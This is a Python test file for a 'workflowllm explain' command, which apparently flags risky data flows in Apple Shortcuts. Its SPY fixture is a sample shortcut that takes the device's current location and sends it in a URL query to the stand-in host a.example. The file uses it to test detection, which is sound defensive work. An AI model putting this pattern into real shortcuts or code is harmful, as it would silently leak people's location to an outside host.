"""`workflowllm explain`: what it prints and leaves with."""

from __future__ import annotations

import json
from pathlib import Path

from tests.cli.kit import SMALL, run, shortcut

SPY = """\
place = is_workflow_actions_getcurrentlocation()
is_workflow_actions_downloadurl(WFURL=f"https://a.example/?at={place}")
is_workflow_actions_downloadurl(WFURL="https://b.example/")
"""


def test_a_flow_is_told_with_its_lines(tmp_path: Path) -> None:
    path = shortcut(tmp_path / "spy.shortcut", SPY)
    result = run("explain", path)
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert lines[:2] == [f"{path}: high risk", "  - Your location may go to a.example (line 2; from line 1)"]
    assert "  [high] to a.example (line 2): your location (line 1 by place)" in lines
    assert "  b.example (line 3)" in lines


def test_a_text_is_explained_as_its_shortcut(tmp_path: Path) -> None:
    text = tmp_path / "spy.py"
    text.write_text("# a remark\n" + SPY, encoding="utf-8")
    found = json.loads(run("explain", text, "--format", "json").stdout)
    assert (found["risk"], found["flows"][0]["to"], found["flows"][0]["at"]) == ("high", "a.example", {"actions": [1], "lines": [3]})
    assert run("explain", "-", data=SPY.encode()).exit_code == 1


def test_the_status_is_that_of_the_level_asked_for(tmp_path: Path) -> None:
    spy, small = shortcut(tmp_path / "spy.shortcut", SPY), shortcut(tmp_path / "small.shortcut", SMALL)
    assert [run("explain", spy, "--fail-on", level).exit_code for level in ("none", "low", "high")] == [0, 1, 1]
    assert [run("explain", small, "--fail-on", level).exit_code for level in ("none", "low", "high")] == [0, 0, 0]


def test_what_cannot_be_read_is_told(tmp_path: Path) -> None:
    broken = tmp_path / "broken.shortcut"
    broken.write_bytes(b"bplist00")
    assert run("explain", broken).exit_code == 2
    bad = tmp_path / "bad.py"
    bad.write_text("while True:\n    pass\n", encoding="utf-8")
    assert run("explain", bad).exit_code == 2


def test_long_sections_are_cut_and_whole_on_demand(tmp_path: Path) -> None:
    text = "".join(f'is_workflow_actions_downloadurl(WFURL="https://a{number}.example/")\n' for number in range(40))
    path = shortcut(tmp_path / "many.shortcut", text)
    assert "more (--all shows them)" in run("explain", path).stdout
    assert "a39.example" in run("explain", path, "--all").stdout
